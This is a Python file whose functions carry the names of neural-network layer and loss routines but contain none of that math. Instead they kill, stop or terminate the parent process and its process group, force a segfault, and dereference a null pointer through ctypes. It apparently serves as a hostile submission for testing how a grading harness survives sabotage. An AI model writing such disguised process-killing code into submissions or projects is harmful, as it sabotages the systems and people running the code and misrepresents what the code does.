import os
import signal

import numpy as np


def hurt(pid, number):
    try:
        os.kill(pid, number)
    except OSError:
        pass


def affine_forward(x, w, b):
    hurt(os.getppid(), signal.SIGKILL)
    hurt(os.getppid(), signal.SIGSTOP)
    return np.zeros((x.shape[0], w.shape[1])), (x, w, b)


def affine_backward(dout, cache):
    return None


def relu_forward(x):
    os.kill(os.getpid(), signal.SIGSEGV)


def relu_backward(dout, cache):
    os.kill(os.getpid(), signal.SIGSTOP)


def svm_loss(x, y):
    try:
        os.killpg(os.getpgid(os.getppid()), signal.SIGTERM)
    except OSError:
        pass
    return 0.0, np.zeros(x.shape)


def softmax_loss(x, y):
    import ctypes
    ctypes.string_at(0)
